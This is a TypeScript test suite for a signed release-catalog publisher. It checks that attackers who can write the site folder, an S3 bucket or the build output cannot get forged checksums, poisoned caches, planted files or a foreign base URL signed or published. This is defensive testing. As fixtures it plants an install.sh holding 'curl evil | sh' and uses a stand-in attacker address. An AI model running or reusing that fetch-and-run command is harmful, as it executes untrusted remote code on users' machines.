import { cpSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { cacheEntries, forgeEntry } from "../support/forged-cache.ts";
import { type S3Fake, startS3Fake } from "../support/s3-fake.ts";
import { differences, readTree } from "../support/tree.ts";
import { bucketProject } from "./bucket-support.ts";
import { folderStorage, forgeBucket, forgeFolder, sha256, stateOf } from "./forged-site.ts";
import {
  changeText,
  commitAll,
  gitIn,
  inDays,
  type PublishingProject,
  publishingProject,
} from "./support.ts";

const evil = "e".repeat(64);

const rewrite = (file: string, change: (text: string) => string) =>
  writeFileSync(file, change(readFileSync(file, "utf8")));

/** Publishes the first build, then one with another note. */
async function publishTwice(project: PublishingProject): Promise<void> {
  await project.succeed("publish", "prod");
  changeText(project, "Second.");
  await project.succeed("build", "--released");
  await project.succeed("sign", "--site", "prod", "--now", inDays(-5));
  await project.succeed("publish", "prod");
}

const checksum = (project: PublishingProject): string => {
  const list = readFileSync(join(project.folder, "dist/api/v1/package/index.json"), "utf8");
  return JSON.parse(list)[0].checksum;
};

const rollbackArgs = ["rollback", "prod", "--reason", "x", "--yes"];

describe("an attacker who can write the site's folder, and has no key,", () => {
  let project: PublishingProject;
  let sound: string;
  beforeAll(async () => {
    project = await publishingProject();
    rewrite(join(project.folder, "releases/catalog.yaml"), (text) => `${text}hosts: [nginx]\n`);
    await project.make();
    await publishTwice(project);
    sound = join(project.folder, "sound");
    cpSync(project.www, sound, { recursive: true, verbatimSymlinks: true });
  });
  beforeEach(() => {
    rmSync(join(project.folder, "seen"), { recursive: true, force: true });
    rmSync(project.www, { recursive: true });
    cpSync(sound, project.www, { recursive: true, verbatimSymlinks: true });
  });
  const live = () => readTree(join(project.www, "current"));
  const metadata = (name: string) => join(project.www, "current/metadata", name);
  const timestampVersion = () => JSON.parse(readFileSync(metadata("timestamp.json"), "utf8")).signed.version;
  const verify = () =>
    project.succeed(
      "verify",
      join(project.www, "current"),
      "--root",
      "releases/trust/1.root.json",
      "--trust-dir",
      "seen",
    );
  const publishAgain = async () => {
    await project.succeed("sign", "--site", "prod");
    return project.succeed("publish", "prod");
  };
  /** Nothing is signed: the command exits 6 with a file and a hint, and the site is unchanged. */
  const refuses = async (message: RegExp, ...args: string[]) => {
    const before = live();
    const { exitCode, stderr } = await project.run(...args);
    expect({ exitCode, stderr }).toEqual({ exitCode: 6, stderr: expect.stringMatching(message) });
    expect(stderr).toMatch(/\n {2}hint: Nothing was changed\. .*relcat build --released --site prod/);
    expect(differences(before, live())).toEqual([]);
  };

  test("gets no signature for a forged checksum by a refresh", async () => {
    forgeFolder(project.www, 0, checksum(project), evil);
    expect(readFileSync(join(project.www, "current/api/v1/package/index.json"), "utf8")).toContain(evil);
    await refuses(
      /^error\[build-unproved\] dir:\S+: build\.json of the kept build [0-9a-f]{12} is not what was signed\n/,
      "publish",
      "prod",
      "--refresh",
    );
  });

  test("gets no signature for a forged checksum by a rollback", async () => {
    forgeFolder(project.www, 1, checksum(project), evil);
    await refuses(
      /^error\[build-unproved\] dir:\S+: build\.json of the kept build [0-9a-f]{12} is not what was signed\n/,
      ...rollbackArgs,
    );
  });

  test("gets no signature for a forged file that build.json does not mention", async () => {
    const { history } = stateOf(folderStorage(project.www));
    const path = "releases/26.08.001/SHA256SUMS";
    for (const { files } of history)
      rewrite(join(project.www, "builds", files, path), (text) => text.replaceAll(/^[0-9a-f]{64}/gm, evil));
    await refuses(
      /: releases\/26\.08\.001\/SHA256SUMS of the kept build \S+ is missing or changed\n/,
      "publish",
      "prod",
      "--refresh",
    );
    await refuses(
      /: releases\/26\.08\.001\/SHA256SUMS of the kept build \S+ is missing or changed\n/,
      ...rollbackArgs,
    );
  });

  test("gets no signature or rollback for a forged configuration of web servers", async () => {
    const { history } = stateOf(folderStorage(project.www));
    for (const { files } of history) {
      const hosting = join(project.www, "builds", `${files}.hosting`);
      const [file = ""] = readdirSync(hosting, { recursive: true, withFileTypes: true })
        .filter((entry) => entry.isFile())
        .map((entry) => join(entry.parentPath, entry.name));
      rewrite(file, (text) => `${text}\n# Proxy everything elsewhere.\n`);
    }
    await refuses(
      /: hosting\/\S+ of the kept build \S+ is missing or changed\n/,
      "publish",
      "prod",
      "--refresh",
    );
    await refuses(/: hosting\/\S+ of the kept build \S+ is missing or changed\n/, ...rollbackArgs);
  });

  test("gets no signature for the earlier state while newer metadata is there", async () => {
    const [, before] = stateOf(folderStorage(project.www)).history;
    const state = stateOf(folderStorage(project.www));
    const put = { ...state, build: before?.build, history: [before] };
    writeFileSync(join(project.www, "current.json"), JSON.stringify(put));
    writeFileSync(
      metadata("timestamp.json"),
      readFileSync(join(project.www, "builds", before?.files ?? "", "metadata/timestamp.json")),
    );
    await refuses(
      /metadata\/\d+\.\S+\.json is signed and newer than the live build: an earlier state was put back, or a publish was interrupted\n/,
      "publish",
      "prod",
      "--refresh",
    );
  });

  test("gets no signature for a build that the ledger does not confirm", async () => {
    const ledger = join(project.folder, "releases/ledger.jsonl");
    const text = readFileSync(ledger, "utf8");
    rewrite(ledger, (lines) => lines.replace(/"content":"[0-9a-f]{64}"/, `"content":"${evil}"`));
    try {
      await refuses(
        /api\/v1\/package\/index\.json of the kept build \S+ lists package 1 of \S+ differently from the ledger here\n/,
        "publish",
        "prod",
        "--refresh",
      );
    } finally {
      writeFileSync(ledger, text);
    }
  });

  test("cannot keep a withdrawn package in the catalog through refreshes", async () => {
    const ledger = join(project.folder, "releases/ledger.jsonl");
    const text = readFileSync(ledger, "utf8");
    await project.succeed("retract", "7", "--reason", "Does not start.", "--yes");
    try {
      const { exitCode, stderr } = await project.run("publish", "prod", "--refresh");
      expect({ exitCode, stderr }).toMatchObject({
        exitCode: 1,
        stderr: expect.stringMatching(
          /^error\[build-retracted\] that build offers what was withdrawn since: package 7\n {2}hint: .*relcat build --released --site prod/,
        ),
      });
    } finally {
      writeFileSync(ledger, text);
    }
  });

  test("cannot raise versions: only signed ones count, and file names only within a bound", async () => {
    await verify();
    const before = timestampVersion();
    const big = Number.MAX_SAFE_INTEGER;
    rewrite(metadata("timestamp.json"), (text) =>
      text.replace(/"version":\d+,"meta"|"version":\d+/, `"version":${big}`),
    );
    for (const role of ["snapshot", "catalog"])
      writeFileSync(metadata(`${big - 1}.${role}.json`), readFileSync(metadata("1.root.json")));
    await publishAgain();
    expect(timestampVersion()).toBeGreaterThan(before);
    expect(timestampVersion()).toBeLessThan(before + 2000);
    await verify();
    expect(readdirSync(join(project.folder, "dist/metadata")).filter((name) => name.length > 40)).toEqual([]);
  });

  test("cannot keep an invalid signature: status and publish name it, and sign replaces it", async () => {
    const roles = readdirSync(join(project.www, "current/metadata")).filter((name) =>
      name.includes("catalog"),
    );
    const [role = ""] = roles.sort((a, b) => Number.parseInt(b, 10) - Number.parseInt(a, 10));
    rewrite(metadata(role), (text) => text.replace(/"sig":"[0-9a-f]{8}/, '"sig":"00000000'));
    const name = `metadata/${role}`;
    const said = "not signed by a key of the newest root in releases/trust";
    expect((await project.succeed("status")).stdout).toContain(`${name} ${said}: sign and publish again`);
    await refuses(
      new RegExp(`${name.replaceAll(".", "\\.")} is missing, or is not signed by the online key`),
      "publish",
      "prod",
      "--refresh",
    );
    expect((await publishAgain()).stderr).toContain(`${name} of the live site was ${said}. It was replaced.`);
    await verify();
    expect((await project.succeed("status")).stdout).not.toContain(said);
  });

  test("cannot lower versions by destroying the timestamp", async () => {
    await verify();
    const before = timestampVersion();
    writeFileSync(metadata("timestamp.json"), "{}");
    await publishAgain();
    expect(timestampVersion()).toBeGreaterThan(before);
    await verify();
  });

  test("cannot substitute the signed build of another address", async () => {
    const config = join(project.folder, "releases/catalog.yaml");
    const text = readFileSync(config, "utf8");
    rewrite(config, (yaml) => yaml.replace(/^base_url: .*$/m, "base_url: https://other.example.com"));
    try {
      const { exitCode, stderr } = await project.run("publish", "prod", "--refresh");
      expect({ exitCode, stderr }).toMatchObject({
        exitCode: 2,
        stderr: expect.stringContaining("error[build-other-site]"),
      });
    } finally {
      writeFileSync(config, text);
    }
  });
});

describe("an attacker who can write the site's bucket, and has no key,", { tags: ["long"] }, () => {
  let fake: S3Fake;
  let project: PublishingProject;
  let sound: Map<string, ReturnType<S3Fake["bucket"]["objects"]["get"]>>;
  beforeAll(async () => {
    fake = await startS3Fake();
    project = await bucketProject(fake);
    await publishTwice(project);
    sound = new Map(fake.bucket.objects);
  });
  afterAll(() => fake.stop());
  beforeEach(() => {
    fake.bucket.objects.clear();
    for (const [key, stored] of sound)
      if (stored) fake.bucket.objects.set(key, { ...stored, bytes: Buffer.from(stored.bytes) });
  });
  const refuses = async (...args: string[]) => {
    const before = new Map(fake.bucket.objects);
    const { exitCode, stderr } = await project.run(...args);
    expect({ exitCode, stderr }).toEqual({
      exitCode: 6,
      stderr: expect.stringMatching(
        /^error\[build-unproved\] s3:\/\/site\/pre: build\.json of the kept build [0-9a-f]{12} is not what was signed\n {2}hint: Nothing was changed\. /,
      ),
    });
    expect([...fake.bucket.objects].filter(([key, { etag }]) => before.get(key)?.etag !== etag)).toEqual([]);
  };

  test("gets no signature for a forged checksum by a refresh", async () => {
    forgeBucket(fake, 0, checksum(project), evil);
    await refuses("publish", "prod", "--refresh");
  });

  test("gets no signature for a forged checksum by a rollback", async () => {
    forgeBucket(fake, 1, checksum(project), evil);
    await refuses(...rollbackArgs);
  });

  test("does not prevent a refresh or rollback of valid builds", async () => {
    await project.succeed("publish", "prod", "--refresh");
    await project.succeed(...rollbackArgs);
  });
});

describe("an attacker who can change the input of sign", () => {
  let project: PublishingProject;
  beforeAll(async () => {
    project = await publishingProject();
  });
  const dist = (path: string) => join(project.folder, "dist", path);

  test("consistently in the build's folder gets no signature", async () => {
    const sum = checksum(project);
    const build = JSON.parse(readFileSync(dist("build.json"), "utf8"));
    for (const path of Object.keys(build.files)) {
      if (!readFileSync(dist(path)).includes(sum)) continue;
      rewrite(dist(path), (text) => text.replaceAll(sum, evil));
      build.files[path].sha256 = sha256(readFileSync(dist(path)));
    }
    writeFileSync(dist("build.json"), `${JSON.stringify(build)}\n`);
    const signed = readFileSync(dist("metadata/timestamp.json"));
    const { exitCode, stderr } = await project.run("sign", "--site", "prod");
    expect({ exitCode, stderr }).toEqual({
      exitCode: 6,
      stderr: expect.stringMatching(
        /^error\[build-unproved\] dist\/\S+ is not what this checkout builds, and so are \d+ more files\n {2}hint: Nothing was signed\. Build again from this checkout, with this version of relcat: relcat build --site prod --released\. If that changes nothing, remove \.relcat-cache\.$/,
      ),
    });
    expect(readFileSync(dist("metadata/timestamp.json"))).toEqual(signed);
    await project.succeed("build", "--released", "--check-out");
    await project.succeed("sign", "--site", "prod");
  });

  test("with a poisoned build cache gets no signature, and the checkout's own build is signed", async () => {
    const cache = join(project.folder, ".relcat-cache");
    await project.succeed("build", "--released");
    const forged = cacheEntries(cache).filter((path) =>
      forgeEntry(path, (text) => text.replaceAll("in bulk", "as root")),
    );
    expect(forged.length).toBeGreaterThan(0);
    const signed = readFileSync(dist("metadata/timestamp.json"));
    // Files that span releases are assembled from the cache when one of them is missing.
    rmSync(dist("feed.atom"));
    await project.succeed("build", "--released");
    expect(readFileSync(dist("feed.atom"), "utf8")).toContain("as root");
    expect(await project.run("sign", "--site", "prod")).toMatchObject({
      exitCode: 6,
      stderr: expect.stringContaining(" is not what this checkout builds, and so are "),
    });
    expect(readFileSync(dist("metadata/timestamp.json"))).toEqual(signed);
    rmSync(cache, { recursive: true });
    rmSync(join(project.folder, "dist"), { recursive: true });
    await project.succeed("build", "--released");
    await project.succeed("sign", "--site", "prod");
  });

  test("with an additional file gets no signature", async () => {
    const build = JSON.parse(readFileSync(dist("build.json"), "utf8"));
    mkdirSync(dist("extra"), { recursive: true });
    writeFileSync(dist("extra/install.sh"), "curl evil | sh\n");
    build.files["extra/install.sh"] = { sha256: sha256(readFileSync(dist("extra/install.sh"))), size: 15 };
    writeFileSync(dist("build.json"), `${JSON.stringify(build)}\n`);
    expect(await project.run("sign", "--site", "prod")).toMatchObject({
      exitCode: 6,
      stderr: expect.stringContaining("dist/extra/install.sh is not what this checkout builds\n"),
    });
    rmSync(dist("extra"), { recursive: true });
    await project.succeed("build", "--released");
  });

  test("consistently after sign does not get it published", async () => {
    await project.succeed("build", "--released", "--check-out");
    await project.succeed("sign", "--site", "prod");
    const kept = join(project.folder, "signed-dist");
    cpSync(join(project.folder, "dist"), kept, { recursive: true });
    const build = JSON.parse(readFileSync(dist("build.json"), "utf8"));
    const list = JSON.parse(readFileSync(dist("metadata/signed.json"), "utf8"));
    const page = "releases/26.08.001/index.html";
    rewrite(dist(page), (text) => text.replace("</h1>", " (forged)</h1>"));
    const forged = readFileSync(dist(page));
    build.files[page] = { sha256: sha256(forged), size: forged.length };
    writeFileSync(dist("build.json"), `${JSON.stringify(build)}\n`);
    list.build = sha256(readFileSync(dist("build.json")));
    const bytes = readFileSync(dist("build.json"));
    if (list.files["build.json"]) list.files["build.json"] = { sha256: list.build, size: bytes.length };
    writeFileSync(dist("metadata/signed.json"), `${JSON.stringify(list)}\n`);
    const refused = await project.run("publish", "prod");
    expect(refused).toMatchObject({
      exitCode: 6,
      stderr: expect.stringMatching(
        /^error\[build-unproved\] dist\/build\.json is not what was signed\n {2}hint: Nothing was published\. Build and sign it again: /,
      ),
    });
    // The signed build with another file in the list of files that sign added.
    rmSync(join(project.folder, "dist"), { recursive: true });
    cpSync(kept, join(project.folder, "dist"), { recursive: true });
    writeFileSync(dist("install.sh"), "curl evil | sh\n");
    const added = JSON.parse(readFileSync(dist("metadata/signed.json"), "utf8"));
    added.files["install.sh"] = { sha256: sha256(readFileSync(dist("install.sh"))), size: 15 };
    writeFileSync(dist("metadata/signed.json"), `${JSON.stringify(added)}\n`);
    expect(await project.run("publish", "prod")).toMatchObject({
      exitCode: 6,
      stderr: expect.stringMatching(
        /^error\[build-unproved\] dist\/install\.sh is not covered by a signature\n/,
      ),
    });
    expect(existsSync(project.www)).toBe(true);
    expect(existsSync(join(project.www, "current"))).toBe(false);
  });

  test("with an address of their own gets no signature", async () => {
    rewrite(dist("build.json"), (text) =>
      text.replace(/"base_url":"[^"]*"/, '"base_url":"https://evil.example"'),
    );
    expect(await project.run("sign", "--site", "prod")).toMatchObject({
      exitCode: 6,
      stderr: expect.stringContaining(
        "dist is built for https://evil.example, which is the address of no site in catalog.yaml\n",
      ),
    });
    expect(existsSync(dist("metadata"))).toBe(true);
  });

  test("with a tag in the place of the commit gets no signature", async () => {
    const { folder } = project;
    await gitIn(folder, "init", "-q");
    await commitAll(folder);
    const commit = (await gitIn(folder, "rev-parse", "HEAD")).trim();
    await gitIn(folder, "tag", "--annotate", "--message", "A tag", "first");
    const tag = (await gitIn(folder, "rev-parse", "first")).trim();
    await project.succeed("build", "--released", "--at", commit);
    rewrite(dist("build.json"), (text) => text.replace(commit, tag));
    expect(await project.run("sign", "--site", "prod")).toMatchObject({
      exitCode: 6,
      stderr: expect.stringContaining(`dist names ${tag}, which is not a whole commit id\n`),
    });
  });
});
